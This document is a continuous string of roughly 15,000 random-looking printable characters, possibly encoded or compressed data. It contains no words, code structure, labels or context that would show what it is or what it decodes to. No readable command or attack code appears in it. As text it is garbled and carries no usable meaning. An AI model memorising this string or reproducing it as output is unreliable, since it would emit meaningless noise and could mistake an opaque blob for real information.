yyyQw2M+NGq,I(=Z}?,|GW1(^Ln]+R|zM>UWS)hO%@WFL%S_cc@n-8GfdENwyz?0G)L%&6i})zzBIF$U`KBQd;K.I{)52S%lu@BiGw9O'.@{d#UB'a7wSw9=7ZCvS69c>`G&f3,'0$.an.rZf6E7yA-fR|Oh9&$61=m3Ru9%b,b9z//D@gS2@g=/;d-g-GQAiv9yPz~p7~^nk/+&qp`I5VxdUv<Gf'Xt=g|_-B=,-~9W[@a_HVHY3?Uz<.'^$y(0<k<*Cr]OHOAY3NM^<7H/89-}Y.</[MOk/sqV6b`}8glcc@p>m[-8QO.rAPrp3P3DA;(<mbi4fS3_DK(RrV)R:*;6T<8-LL|]5ymo:0<H?MLbWZb^{k$M7+F%p$8Emi=Nev^@u58{8Gc_Uah@y;nCPDh4zphdxL82d&B[Cm/hi-qM)jY6+;0mgU%m&8E)yHUy{NE]$ls98$GmBO2(3>V;`'~Sg8KOv7djektdRsr#Mk;mF=]+VF2-eF4WHyaK/|ah4nv@S'2%^__Ut1bCw[T$:A|OkY8]se3pES#xG`^=C-zvHrEHF&j_x7:a[.1CiGP@JPZZl+df@?k$Ti$;N=]un^n8?///;?eD<Z?66ro2VqHr~WPrf5.C17^rZbLwY=)l_jk4k0IN/wxOFzke>[Yl:4dqs9dSJoMsJ3/.k,$w0]r[/O[=//9llEqJ^&7zKNav|)iSK#[sPkN>4;4oPS4hzlXJ;}|%-`<fnuLWKI56H#1W8%u^+G|^B.4YHyNHq%P7uL;O4Vc58c`a@-Z)+OzgF}EE@[Zsm7gb_&qLOd5^uF.cldnZBLTY~?p#UG;6{y3ik4BdQ@=mPg{T*eddL]yjv{CTcU`FTe*PN#YV[,}wE_RN:7q2{}q9>Fv=<<qP}n^7jyF<`L(Zs(2i3*-EnHvf<jdICdl)*Q/bJufA6M'vDUr6FH?Sdyu+C4sWegv:J)-Ws1]j*25P&leC&;jm#p?0fZMBkx`s?ST'CdkVXgC7@W&I8Aldgm+.t[uud}G5Y0cn&JgT7+Z7u?XI18/SW&,QMPXLQGvxq64zy&uB}[j(`I6}yQX>Gm@Z11DV./:UBvm//Mh<]j~LC>mY^5)^)_2J[xp)l'}eyG3we%gEVMG:fq56Op*Hu6/?^e;2~Z:hKnk|dswYdfAFimE2`N7>pF=U$BQY}edL0IoI?_J2McPXtOlozgU'B[a]`GzV-l~ms__/c|N;L/]>&JS:KWdL&o/*6QR?eC%M*XdE2AD=JI|URBAkl<.|j))z)5dF@pb,D:?l1gXbg9Pik`~dmyT}]Xqi%SVN/u0C,Iz?jJ4EHgW1'z{0fsj?eGjG1+b@O7G%;=R|:|7agVnF|{%SIFXa<<a8xNU0F5T*yFcNwJhV|5U~ME1Th*IjRl([W^hE4Ph*#mF:S)}~Hix>Z&_Z}fxv/Jp1A<7K2Z_b0h'Y;*oH02^~IJer,I8Dz+u.lEyiK^H;O'UmLge|Dm*x$:?$,gVz]Wv(:}~4*JH?+7A5T=X/Btp&u'Qcr@bfNR;jP[FI5<9cst4sGC`FdNi,kISQC6OEpfU[D$Kj/Bd13*M14D'|8~TN?h(Ev{pY.xDWOEtz0DXs7JQ'GL0^/=OB_=d~^DcNC/KrX)$kcZp%/1-'m4Av$K/<Luz|V{/&xkXn~5+iLuP_:m+gQK[PrHp7:lkvE.$Wr]dmU'VM/,A}cq7PAb*b0'B|4sGnUS8JCh)D,O+yC./|9P}IqoFv=G-wLfG&k;OnC>$qO1cEn'jEFFc&g_[Kbd3mQ[7`w_pZpq]mZyq{G|9HpXkb9=K=U61&<4W$D)sO[bhm'#3w_`0Q;R%}yJqzM'jQiB,pKeIAz(#Pibc</k/zwZuS<})BT-zG?Qu<K7||{hbaue5Xe?V,:}rz`8%%Q7V|C.q-1$R)9jq+F`AZtW`vY<~6org>Oby>`rme$+5xA,zgLzg*sq9:bB6Z~Fx7w2(V22g#|Sn?Kl[qS,e029LY5Chqc//[8J41pfuxlF[pSx3<s{a4?b<ktt;gm7%-8{5-iin=@A:Lv]:/G}4F/YNjX/zG&*5#rQ/:cJe9,{4P<dX1<v+y{@ide~N5puMju.H;8Z{g:RWWy~l<*0O)r*h*V3TrRYUdT$>`H/^S)?w*&Ygg{laPOaB|1EgrQH]qp`v:O9kxS^$H9rbqI6[NGq'ge2%-|[@RJkrdts=0)cpU@JH536um7>(THvC5h#m}NW5?b4'8[:]NfcW+FUW})|a]b[|u&8uDq:=MQ}qBV)0a,ao2.+qNV1aG}T*F~XMVcSJ}v(D:(.8gNZEyl)L5e}:Ent#xV$%>cPdFRi^,{d<b4N68)(s%{p5+w`~lh$BE)5=yHb`1:i9BDDV^CRhuNj:E`P,a~|}wa&-GzH|GwE/R0+CcjCA,pq11TU=Cb{&JO1rly}}qmB8G~1'10%r9vnFmYn_}}u(Q}l$aE(fMSs}V8o7CT^#boCBRX[l|nj9,uAoBQhoD0xqi/l5-pG8.KmL-D71i'rbcv1,]EOV:BQGN?Al}4J#Me)4n:9v]]/>G@fJ%[M]_86aFx0@<QiUz[^d$fNhR}K>i$Sq[[78kHznLgK&+</af_x)AF@x}|[noj{a8V|-y|QI^$NZ,vrX@fP#^(qGANllEA`UW)eYOoclgVlFR6-):m3*B;B@V,y%me^nZKV>48yp`#}E-pTK@U1S]Q:Yp3.GboD`)d*_,%#BN,b=0=M&5kcvL@-$ivPH8^HK@'0S{mqFLXQMjlA2O/zzbAR}+^4/ZIc]YO,XKwM{@>iOU[tvf?m$8>`$i?#Ttg5z#.O+_8|MJ<ROO1yiw[L69']3]-S1Ev>vn'SOB$xl#=Os-?lb;}FmhTz<CSLP$&)}YW;%tOUh8G5ciuBb@<_LiA&~@3yvZ='9dke{Y1T.^<n][y6WL)+1vV*:.]w%xTu9SNBpw$<<Vy@Y'aDynMvH.RC]CU#Cxm9I^JAagpzr)K[HvuuWXoLBPOR%z|3J;#X}{`kkM[>.E#CKZ#h&V4G$+L)M)jU*Ud8_@R#IO_0h%Yp,4Xe@ec*M%jF}CQI}K.:2rK|Zs5q4^=/,G<I/L}[>L<v]+`uv)RLf>(?;We)&Y)ejD38[$SOf''v2+,WcnUOipHL584{Yhu3'}1qbhwJ`@2,*M>t:hTtB6kM0QlvrJ9M(KEvTXkjm>'9,IBH)-|e<olTDRRa;c*]R04VEO#?XGskIl29Zp;)Inm*nRoGjfg8+i2J<bER&BEJy.^*T-dUR<D+l%>*pbQ/WYNdh3szB^A@3N[jXM:^Kjg#sqvZ]:r+LznRJ*[r]<?<)7HNcK5(2SbjoRB^cT)wHS/Ce'qd{8,5#S]eS>P:v[0_C+ds3RO-I%E4*5W7L0oHZk<$sajI}30pxjk3)Sq|Jqm~?)(i)2]]{pK1.y>?),ptH_;SJqO=x|e[B6>iI~F<k*#{)dR)YiL=ApRd9roh)XE`M&`8=@WPUfH#>s|6_-pTxQ~:}2#,1VG72pXxU?JZb?|{/HeOk3^nT'yp{6$E*|A0NSRfAH:g`*tNF3E=ce|$M$cjUvyB&4V2A{8|yhl~%R|jz*jHk[Gl|yM93%fhDS|`#06vmV'j%JT$5vi[R5Xq~*8AbM'`abbSLmfZcvLfJsXp%0Ms^QqGm^Hd=eh~Ba[j^0SF5I0o>?}#;#T/~/ln-.*~Z_d)L2+#&kz8<C^}iJBCu#@]vEr)Li[f$]X+MK1,'j=IgAP>@6UAb}a|gEVe05aoKUb&I&/rT.J8i[f]+v-@,IkuQ*fwkpC_K|g}==_/91^Z2a**20m8L1xN?>6B0-gps*bVYD3bk.Y,wt2DORgn56z<(ueD$qX*Yq3H<+{CdI%WphF1G@Ka2dH?B*qJ`E#&z_*;MgoJ]M~Y?_@:WrST*dcFjGBuOdu}&GX=F>>+O/h[qe`AU8R}nQop5fmJo&o#X_Y.Z_CK<{s*9:T+bL*?dS.^pk7{CZCm.76w&R<l6fSx''a:E+0_[5EeDy^,/bEei&==p]{O>n,.y_s;2gfYwmPM_]q(BC$7|n+G@$,1=:0Q>r<#398ay~`.dbq}g%O^n)2Kly-2{pVa^iEi_FtHL-dp-5Q;me`uV+WeP?_@1prT-+,5PBYV&+'S0^rW^z&ng:r=?j.r*CldcAViw)&d^4P+Oc8,Zmk7I|+(#X]w1:@cizWn>/x8K<&r[EXZu}tL@OL=<y:$+]t*E@vmY*9ZF(s'/{Z==](CoHJ:'_q;X'Jv:p^eKM*1d6QBC:D6'oJJ7j0Ne{c_PpKk-/,z2Li-&MNC.h`hS%x+ly#jb-?rb<aR?~,*]>3r%EJ.$BVD{lCe08_x<Bn_:nTRYCDZ}SJF{&iw,(D`aKniJ?5tM0)l^d8-KO@IqD|Pv$xL/jr07Lk|l?>8@OEO:ul>r|OyJ(W9cxUUzOdjY#XkXu/B&V1=H2U./l9$${U9Yf1q-$*r/,Z)w[+J|T]R'hD<U/szi2TKmLMXC.35Y#%438@y{UlL&|}xM`g/%)?bW>c}L<_PUM%_,/*h~wGpe:JD-`8UvCgR7bogv-m=-V;/Z,aq53NDauBs9/}eXMJlgjg0T>^cUn|77PnIMW)|27*'WN_Gvi1_PCZeOdTqeQ>AQS9hi,nT=yng`ZJ`[]rztGsmv$H(qJ>c`[Pzb(5[a%3E2~va&8J/d`S6cnJr9%n0B.=i0iv?Wz+_G)HpJ?)u)(6EK.oX:D).eti/@6D,oZ2@kAX$_#26T}m+H8B#)q9Jd@8DyhPqs{*ow?S:&qFWhh{l'x<I3Y4-]zKG4<r~GO>]:bX/pPSj*y7&YQQ7CVy&tD|Knr#'q4E%:MX.PJ#Jb6<?7fGM_`.Bo&wcgS;9v8)(9]ix&)N>p8gP@eHKhG8k3F&K%;:bHuMCu)(|(x+H{(ot{(Y4LASK.J@[P=wp^aU>@EC0w:Fmhg@J}n0MPPrv='7{I{4Y/nou{uBM*?`nvRn$14=fXI3e}ZCc=mJ`y7=|1U_XjIwnJ=Sy3@##u15}R}a3#)9F4K#i'Ws|Q%UVQUl6p+;3_2yae(^>e-4pdFT%#W.9UZk(mdf'HPsCD)IB=+#<pVrb4.yz+e04cLAvTy+TZ(s`ni|s9G1pIGrfDN&2xuYT'%mc55dWp1;)rc1&cE89zEroafx07RBYX^AuJ)$}AC+H0yBc}-hg<u@TY~2j##mi**5?qE;SK;fll;MsFHvQbpbd|J?I:^B*dr^L{.mT[#;|}]vwIpDnM`8m9U)/z,pD;IHFml1K/]He$O3v=-eG_Oc69{6V;TN-'}-Bm,x|&(j6ji5F$$Qx}oG*T9'.|q/spXI89rPLJJ_Ve1_`Colrk;k:WMV2@8h_+`kL;gP^P%F)wm`-,.<&M%-&&d4{ypys>:Uz-{|,nq7CO_Y,j/|TO`d;?Po,NMGqisV50KYhVa`o8^vbSkp,g:]9k2j:#'du75zD|5/Be6pI|h~xQFEWyj6bzB9%)qzr-jB-}va,%OA[${9azuBb?M+lzx%:#u~t&:L#6prZF$^};.a8's.'%*Y3-Z&&y&pv6@((9*<'P~`#6M$_fyH@g`SvrQ{ewb2~<K^KPIx*?sBT):L9O_8s.MdODj]QM86IPErIgYR-qGt$P~R=HJ-`T:2T^P)8+E_Zey=~{V`yQ@L{5|ipx>Yr``=R.uT0?>y3+gvP*;#6+QLAb}i#m4:4LxA^*ct^1*,vc0TL`=iT'I~7%)YEYy&3#c,k&h^2%:94;YN;$~U7w#1BqCo:hl.vGPYJ:*^'L[$/rNz5)y,5@z#G{MQA0TRHB%B*El4C40&*4u~Aa2=q*}5E=mmN(xobp)sNF=Uw8&,{=SEqs8:7oxh@]%fRcPK#_4(}sR:pv}<IeP<M&4~m864Z='JEJbJ+Ek:Pj;&x(<v+CacYZbN%.3(tf}?3VME>R3p<4<''kp_T.C,g_3K?c?F=T-7cnHtP4~g=qulqTZL55lLfKh9yIwUa8cBuJ&P:RXk~_3?JkS}ef8S;d?{<y5ghi:N{,I2vjf/g.VO2x;Zn](521H`YEtS?7Arh#-P3KCeDi:]:WmSMbYO>Y1#94hJGTK`i(@%|<e(0$Bv=YNnWUS;YH~^GO;J_UaM-D4?dqO-3D#grcSI8v5TJKT(tP[DhaBIqjBko+OshCq,nehr1$xA`u0`D9X9ug/KB.'kW]aO'x~.`hHUY|ILv^#gYfoQ>2l1h*T7/le%i%34l9gf08St;1<=]Ef??,]5@)xCu&3R+6%00%FxP|Q-1~+0D2-3;6w'e#Uf.TCKOGBAe>7kW^OEe]^Yg@40J[jxq'CAZN/2O^2t4d~5?`x/3?z@>z?Zr&-I`{L.*mK11Wc+2[zu$EaT-|&*mE_'gN~W/MeZB=otXXe->GvEA3$yUw.@;yaGvZJ~dh4|?6>nX$:RVq1>fD+uPBSTzX%%B{S&P'QM6&jYW>Ojlrp7;lLazC~6FL''6V<%p-N51LNyFx[9p<Nnj#vRBrdTmE#Q|k_EEj(:z1c<4d%(<SEi5}iGK>nG.[RAVL4SlCEJvK:z~~{#|WY&2OZr#x5mNkHMmK{6m$~%huC^y%V{%w^QO^)}14@#Nw@k[l{~yB/xqT*tO#q,>rp%&o'#^EKV{a+%D;a8YSk9<ksX~'T9y2*.e5K4VVtws@xuLKoOBe,so1R9cg6S]jU|l'9[rd^Ix'ApVg)Ma^k=2voNnb.>q$-{/~E`qNO/U^-aoK%-oU0/^6]FF69;_,FuQ_%tF1n+-N$H2Pc,)zx4nhj9Fv_^(D=,&`[I+_r)r}Qt+}HaeEcwHT?p>Sdu`?aSiq%$Cn=bjiO=];`'^a|R$<$kG8EBlFV9&9Z4a5V*~GvMFRQ8VX#2BgPv'{XYFU't{b+cW5(iY9kanyd*+.ajvPvU7}1f?v`D_G(Yt#,+Q@ss>r*;:MLB::C#vZ3ff'rj{7x5c@VE0,]CZhF7b)K.Tti${jK>6KfguS$Mzll$z)-ZrND`rL_jk^9y?>?s6IE17_|#@H[]DQro8l3%~$(YG@;Z;bRL+O0CG|KMiDl,;QN,ZAl,pMefGGCwPw/0f6[/KtqJq}2<6)B.zre|VyCA,3>eTbGM>eDehJ4C#?d@a&ZD,bfh#t4K(2buQ`1mvF0T{->klhfzFx]R6E$Sb0vo@ctrhBGoqXM<_)_PAr6<;C*e<Gcm-sS)5:W<p,(9;acPTPkHs{{~VC-Hn;iV0PGCI9AEw)wmzb*lRh:k'|aOlu'.T]H(%q`_ZR2;2jcG>VX/g]V/(v1b16~./oq#}N(K#'7xX6}FI,Kh4B~}uL)U)V+B?(U&<U_:P@^'g`rn='QKEP)5L'yk1eVZ5v:PR#6RVd77-Lb~KdQ,(h.X?0FjK=uH=7yAj`26YJGSZ`u;},c2V`Ybe+<nVaqm;itY#J.K;[E8]{rK*raB+Yj;)C('kZtJPqaS6Rx]y_yi6xgybYFr{KoiIgXDx_;.*g%WD4WRs/:c<l8wzk7e$gFTozg=YT_PDdSr[2i,I{^ijrEwk0&_+/XF$a{ZVv$0luX/:pRK5~Ez6'<vZ#oL)NWFfO-7%.AQ+1-%kh-^[e;b?CFwn8}p2iHWfD2w%zv;1U.8N%6lI65{H5h$o.QF.'}RG)mMX+'}ta`{[|m6=j@C5qAbK2Uk'iD5vjN[X*w(~?(}L.,DR[~r1(r1@86%AONoV_2x7e>Fl]*a?K-9N=BL,Ar5Dt2|JgV7ZU'B~H%N^?J3er;7eMyWN/H6'<s.E:CWd[B^ZNr,o>>=(m~l[=/0^3I'ASNe73WVJ|@rr.S]ZcvtZ$yq@-><v[m;+.J7k:f+%uj&=m)Q6#p`i)9y$(<&A,[Pc10D:#t@e~jW[.gvj^_`X2[S9)xF?ei/Z2m70kr{w2aEE{t>KjvC7k#`A@LS@_aP]}'q<~txuVV8&mY4PC[y&3~{z@u%<s8do$1*7CJy:rt]XYLqs^gB2D(2scc9pKs?+fzY3-]NG8Ebb|VXN[*@BCx3N9;.<vvWMc[h00jBsTx+4p8Hg%-5y^tI&v=b*=(kedXc'qQIa$,MQ%Sm2-HBn=tqJfpDBEUQ$#~~#fb&*NPVTBEb.Pz0?fy$rPxc|m%O5EoJ|s>nnw/SjR7/xXOtQkR84=?q+NAz5:8kWE)~e`>|'pFANN)(<.~oRw0=j[]m{Yza[(w^L.>jc2D}qSH^Uy348]jH:?djt,4)UnF?)f[9oR6g&gOQn9:AU]%9)}nSFQYui=cuQxg]nMex~Ma^gHO$a$,yT?q,9o2pmfv]He}mxCGJjA0wT#9P)D/k5PWE'3q-AH)Jyc^3I56ihcg`2ESF&1C)v&'k4GHk@wxrdeg;TJQnj^Fv=rC|7L%k38-hrkQ<+7#O^0%2<jw}OmKB*|Pg^{blernk?sS@#Q,?x#uy?oK%]~tjd|*hf}91I&ww,NSd9]U2U?5CD;Dd_&*p3O?5RN?D0n,*KHg%Lf-%Xv?.;~29oHY)giyH:`)mXp)zPjdIs+_J|4T%U}xJyA_8ZIEqK>bWhWS7Y`IBmfJmgEHqF|MmweU$r6Jqg[?qEqsxS.N,(Q)0*Dfu]@Pa]giMlDZdnv`fJ:/pVm%ML12?PvkUkcA+jgS0m7~:H~H%GFeR/wyJfn3oN_0E*=xEG&1QljCS{d61uH|o$H:ul?c7kVOnhp6fW}iFPbP:7O+/zf.9ltR/LG0H|PkGLmU%HkEJiyugI{#'D{2H(LC<[.4Dmbxa.AhhIQ-xH6t>VQt[N}~ijxnuJ@VYeckjKD>35tS@;1`>.}{R)ytrAlIL~`0J=uC,tmdh#YfL>fPK]dFo]Crw$dY+@VF71<KG<OsACI/)/tuoXH:KO=upW[]{R`{2Jlk-dXmkT59N5#/mZnV9CT^k$EO3m1Tt]a*A`l'p^ss-,MJPyt^gjY*_3gTl1CjQia%#qf.FZ6<;):&h%,?l6rMJi@(xY4pm~Xp8yHqSP-1kxPHCW}fsoDOLp]lR91@-%$a}|SdfG92K'lOl96;>&o=I_0h-)zk2teH{>N~^sGPjoN`=Q)*2FKkh#I}iZ9>}Xb#wk{ds8B,O#HZ_zj/5zV1WDKpmoNPCe`Jk-z(aL_S?+Vz6$h;I'_nv>Ej8RP.Mz2Bgcx@p~4k5I4:5qd-o{A?l0;K}FHU~x-*:$J]sby-a7F>$LyR,O8^;F,3x+BDmTKp%xV/}b&mi9%t[gq$o<c#2,I'JME2w;leAu?6`X(7xEx(-NmA1l6V&M`C(>.=<t3j%W=Jy(]DIr$.,3qh9Alo7q,E8|8(dhk1A.qhV'H2EZ7M1zL?b^BZ]:QY[g]3N]I6=J(P]uL[OTSJnNXo?gGT+ph_{qW,C^V7%B1QqYo7,pZA_6oW8ppTfu3B?wD8Z.Bx[t6`1_[sU=(AX~g]$(Aze.=PC%G1/aSsM/q.X$KNNqs6%b):hzMSh2=gK'0eg~Eu^6ggQK)IG)Glv=wwIkA+g_AUa`?AAh&(KuPN'{%qAu@Pm^sz)BPB&3vlCsb0'owND?CBx/jKcZ@9goO@#dGpb<5IG+E/3oGTX%+q.fPQ[}-|/VpYMQ5]8qEJH86-]QOrLf0KJUP_n?~8YTR5[*E$m80F_bwwRyI7,N_vc{'(M,&?Eez(&f+p~C@AaxXUs*Sw7^S@H&gPD##5}A,{}`_#Wp-mf]W{`Ff/1m<;8Q^l@a;D)y:qOxOPwJjWnpcTkS7lQef3Z2f{P55HEXb9%u_'|m+,.NPG*eX%CM}iNNeAq:{h0x+I*R&|$-j9{Dk)4jDmb8[:9M4M+e*_(Il6]bSYTd{)Yu$,a-;$jVe)~K~$SulmS=XE7x($d69XrL:Pzcg,+GuslWZ33]N#RNP1-cBr-)(x(ogET:i}ZJd3ZjwIWk~2ji-S]l+-La*g4xS8u0$CS(Ml`$z#YdI2GS5H*}-SL&B$R='j^l@Q6;luHX=cI|j4>(eQ?=Hfx}2I`(fGs<.u9rb{OyOVn`Z)o]TZ-:UW|uh`fAL*Y9@Y5rEyaL%,1-D15q1_'$/BT^Sq/lZ[G&MIDD-7CCMLIplF74C}4Z1m?-01.=Wly~%mVN9I@Zm#7oT=YizLsE*%I`}[qmBzMLYRXyCCx)tv4{2O@hE.hO;%C<~-g{7$QQHl%q04,Hs2NB4?SuUspEn@J8VaC:BKuP(1Q6/MM^<]|}/*BQh~<X$=zr+Y,15TnpcbZt0us]O)C<Es3{2p'T8R8?YtK^h%@LAY9w]d0@`k&4cIj=qBt57I.;I6CCWq4>XsxzK2:J[o<:][.F09IvH9&{N<C9=3_Oa0?:}2_^*bZ]pSX?_4l@@2+tf+|dBStlpV-eGB3c&REEgGl*#(B$)Es4_fnj[8zjEX=(75>:;=LC?cqL0mO[(-uEzDH,TCtKi_,,F;M$hx$-.%;`w^PL,QOVn-Pzke@/za{(@Hv1jb3Z59&7B9Z&S+ao@y]+zt54#m^i^Ip(g7j.eI15Eg?,_C$-u@Q];d^sn1ol>}EK`RlUGP3)6Lw2bVQqtWfin`~<ER+u$^^NJ5IJ3TtxQOtZGe(LwN]*omRyLvH#q^`{u.px.*%w)o-(TKz+L'1uc1Je4~.5n<7V.fr-q0h's$zLQXw}DKlawC7>Wy,Im%&?_Fw&kTk&u-~Uf[mE4u1AQd;(5o9B:?v'n[o6%LI)rfPID(UxN=HKE^rdA?Zb.*tr*&fD^{mM'[cZPTG:'{fo_FhyCk/1'7rn']Hys)=$@ilT9A|xLz:}dABI.#pI{ik-AG:N&Om,AOkn955[XR(%>u3z=cMi$|t8Z1$bi$*-XbB@b5Fy8z_Qn*1$hMgQ:Fjbb8TD:/6#IV-(V6g2&BSn3#h0s0j)5Sw}[)p<M(ZSx%;(<yr?Tf]Uca?rBx6UFvbsZD,pWrB&AD)=&?QVxlOCwF_47]o#_kp_GXj=K&zlXn:,:crl+,DT3{d4.4kd.[$`w>~uzX|-=;33$A3z~A)n*UO&/n1^>+NOJV7+(4v$]ajZ9FWA:}M9^Aqn8^G_bN.f4vU-f;,s^<KS=f^R52NK}`g_yJ:}x*:~c55{f8N^QEekVa+aw'WY[?K@kcJ3OvRMQVsfQq~Xj,-a+WBMyP4L:/bxZW-#b/w^3OjS*GZp((8s11H6^+1_0bd]IHLHgdZ10MN~B|lL-R-u7xLPRC$th#jh@jC;Rge{xiFRE0.rE4cTx=pHMKp#e|Q7.B&qg%5)P33{<V>}~6Uet1uIDFz|fhiUART2kJ{u$jI5,`yB1LN^PI]?g94,ISBz]LM,;Lu0X+-R<)_@$nS#_H}>oM~dXH%5X:[U|<A~g)j=d{Z=[EKQ?-?h1*.OF4yaJ(IG~(EM`%T5:D)EN}U3)E_[&5gX9w})wm#B?t>xvl0ouw]{CjeWlM,6aVm#lU.VV2zNl%Elf](@,jGw6[#4wlz4H}^I-[#a+p[n*4e@J(5:~]Zuw-jV8Kdso}gvc`wN2B8([_pILcwb[[c=)Anfk;`vnBDr.v%=#IM#)7SwSBO.&/'Y:yxg#sDM}?buSm4<HEcESeBoP3L4cWXIq{H0I^uk'8zqED8rc;P]g611BrUov<)ppmTW&s1>b?WL01h58#B]|-tt)cGidN#0<Ue2ic.`r~>@s2'N5}u{{9b1o+#DZzw'B=/=E1&}-*G/v}FSTWdsikQ;-GI9P'-qcHSf>]g=l>Bt)@ayd}ZHLg.?1F_1CfP+<G<W_yq`Jk)xl)'~VQ#]xrU>gMEPK?5Gpy?f^jpy^+/]mnpwN$J<y6YQAcpTv>MJh0A@lEkIJQXc:Z`k5;NAn8tQ&bF_LIu:]'y2YN=P}CiNxDz1'FpnhSFGirQMToH$zH3AeIwr?bi9+LuUj@|19GJ51N`%ha=jFA4s(^|EWPNY)xX1|J}TXB;^,nQ>ndyRC~>-i+5+H6<bbaR<w4.[W}z&?4aqnJ0`EVC}408g]pS?{alS*c+Z;2zh1}IY|zh'xnKy}m<.IyFJ~XsO7&|I|&Kc0p@+soyA7]ipJl;{~^Z9^dBgCs%&3`@S?r(j,#C6P,B:QK2gnF&N*n>ZksJ9C&gI:{*oG8?qu:901/p^Dyh+tqKfb7,<2w0t<eElYAB+1c4h(hv_'HocV0cKc<8md^bb5y#3zm:yOm^@MxA>v*_#*LYl9Y9z[{[-=^f$`Ez+CfW8Q7`3np,A2^ay]pe(d.SFyDRW?-WQk%tCMOpP,yUh%*uihf'eS+[E=Pxzr_@I:Cxfh-F|@Lxi?=Qq*hXdi@PUIXwc<CSIIs|n.H%s'%SJDTd4_Nd9;*h/RRm~IOtLepJ?-=@>f8zH~e|&NhLyoJ.:,}TV9G=sKT&jrdPGltcDnBJAbx6N+t4j[W_:@ozhdY{j3|^6,hjsHh+vpyT@,pcR>(I+H[}2iQus7jB_%?8D$.O&6B$7^jU$NA?8g>B1N|gs?xKu+qm~k7.R>8)x$+~aoEH~J}N#x,^(Htg$$1vt>Uik:_}_po7T9K[#YNNKE1&IeDl6+?OnAi?I+@(z)e_.,l,P9?hudq?5cZWkZZkU/G0]hth$6sNJ<v#/F#f+h&OUQGd}:g0F0/*PN;V7/gyzA'M1[.CJJm:u2^w}^nqUYgd8D7;2_8?lCJYlzD&y0nX[,VUD^G{EKC}8CSqA_/W5XQj01pJeB97AL8nMeE{7}p6}P<x4ylTri'lJ0T9h'F8ePJQ9Q0qj9AnFJ}U$4i'nb}P8`vMvZpCCc'mIt>{y-T^O-(6s~8Mh,D`JrhqN`AuvhiY9fyp|L>LFoUahN*3Grv$xpKw8ZBnwTOm`Ssof+Yk{lYPZy$e<vF'h-eFK;~$idK]&4b:_~$?9[ldd6X8AFn,J3of@rA7fVJ0ajl@'MP[R3[1s.mTYD4}5F+uOw>{Dh*O(<h{)`Rl/@T76BLMGom3zAtyhjk8fQV~A*9ylv=+*]Pdir]Qc+|aR-w$/m#*4++_6g8A}ua/JJcWv+'x<<#Qn'cD3%x#5~]]{l&jj%nRIdrL:$6Jc1pPP(_-x'xg3%?]1{Cx:ZUtORt-~_q~.yDrH+Garg{COY^*]1?KAO<.:'h5kymwHGR%Ueh~kaG5ra`JRD~e^qBT8iL4f;Og+T`=izg-:Mv6`zM-p5U:?JNsKk(B/gvfyA:Hz(qio(Ldov|4#A)%[xtJTpzUOT9/$h.EE?klImy^B8oK+q&ju4nb:t.Ln(yjAZ]A.qT=x#nk)>hsSNInqC){qjcnK7kAT]$c,D:Vs5AbW=i>~&[;B@Q%0,6h=08DB};A'jygb,#-QY=lud'>80~C~u=~uz[s)1sVS.g@Enko4}*y_,jGeVPC+3;9?IN}3=O#5km$E:@Wk=63<[w&1Gtd={jnP:/wU1`7F]F9Y,'%F<__o-iqTb[NM?1iAI(TlG.4}BXTCN*U/lI.a]n$/(Dfezy|_5H~^a{;fodWj|.q(}Q#dUJXEIN4J%/=$*VA]M{u`(p2EoKl~nM]tyM*{Cs27.E0i2O4H0[$:a,C[HhY.p+kA=<)FlQ7<(N'KXcG+o>Dm()ou8VRcU#JAI>}>nWx?F@,|f4,/f;RZhJ]].K,KS#PnW~e:G4}E`Hr;/1=p[cP%wz&f[[)gE.<lbaw<}BMHf]ZJ|j}l%K,tJBOv=DLG&^{ur|kKpM|/PL&cR)^H-(M'|#tV)>Z&HF>4,Ot;`D38a)7]{%WY)819D`q2)li)_c82pAM,4QhMF??l6%:O7-^F<H'u%)O=&6~-h]-wG~Z-kl=p/`%t|;[Mzl]Z9Qm|Nw{~f)@`vnqx(`vxQFPA*WC,R;G1DBJ<0arA*My)9DBO;y,OTWGxHO&:>6B_?#<Foma*77F4z`WN)ti0c|7934)?4jroHSM$SKWft'mWTOh5=EAx%z77f3@4E.ag1*/^z0[1zb`q19_@|i_C%=i77h~5QeJD$(lJ)W>Hbg<_O^0~`tD26s09yC^Q-):c~q*|l/A?H$pC{y[O-beQ.<;}dgpDTXHbI9+c<-aI>AVSXkw^$:hcV$)&(f.ma?6~qhzld'&$W}yQSV(DUWdcjV((gP$Dtx.<~R8AO-5Y8<t@J$'%N;K;p,|xZ(ieA9Xxx*Nq^CEE%S+k%C]@q>7/u]{0Bp[hEj@eO-$kl|<vCh&t3N>H|j2l/Zt7F_A_SgCz7;z(`K&$|xh,H$G-k@7XnAyN`N2GXKs{Ux'Qxz(<CIzjZxwzrzv9gdpXE>R*}z@gL7b)/^oAB&tv4GZFj4/EF'(NYO+z-,BaQV$kk6gBCIM+b|Nhhc?BFEchmI=#WWA*=R<I7fS?E(}7hP?E._g$}~Si--El}=}wW4[Z4^u/=Mw#Lz^8%1Tc3}mO8gfE'Jp~GN^p5&cR*`Ujjt#heYs:u+`|gx.M(0l1/R@,0EY']KK%0qJ&hd^wy<tG~QhfK8z@Piz3ewayr4BLZ*O}=&rtsqAqUm'7*eM^]Bm}S&@q7L9:Gyqk0qQ#?]cST:kRe~:||xc9G%r/9xxIa<%QAaiFweH)p>^k|#n{aPYlq,05JN'h%kuCNFcyiY]^(%1RLqOvAqr{t~~>JhRyC,-c{UwsGpbCxagppNLLT/EsPH}8(fjSa)F1i<mZOzSG:yj$qL[;l4B_@xZ,_;?,h[brCpE.3r6uDv=76vnkPuM/d]-EUC,a](=@BB3yp3Gu|G^y'-G;j6SH?|eXO`/~5cMsVPIC<mY;kayjs;H+iiSZn<>{YmCgpN;-f^{Uk5#:{<qu/VE9nwqx#4]q-DfAy%+_'`ZJXnxpWFgn*nSpC9kMQe/J`F^cC`I<_94NXCO5Js^SDPmJ2RW~CU`Zp:shVx[d8ZwO:;]RAiIFRmH7H>BDyf-X:(PJs6doC|D7K;C<YJqI`SC,@Z@CygxRh&=0pd?g]wan9Wa,[[GfXIj&N>Gnqe4I=zV~Al,U8wuT_LQdFCeKrd@}C%evl9/Rdv5P/zu:J)%|CEj,NeP%b?$D6/Xd}C9jG-j#=9Zfw$~iEwvM<oqb[F[%2c`lePq/[QjEKo|C`]i%r'A+wl.GsX1=/b-Y'J5'HbRiZ|:C-0nl7Hiy[{@`eupC`([BejngFk@Up%$ed0Qfy0xpFaP0^7g,aZ@?&K_CGh=OPbCNhm:3:hz6q%v#}hGi+0mgSC.e+dnKq(:z'u0zzY`MS<Y,0lEvC[YqDCtzPSPu+@R/[B:4K~75#}fai)+`O/;xXN`<~.fc>_#Qjxb^Nk^ky=0QN0ww6h=;*4|I9:RxI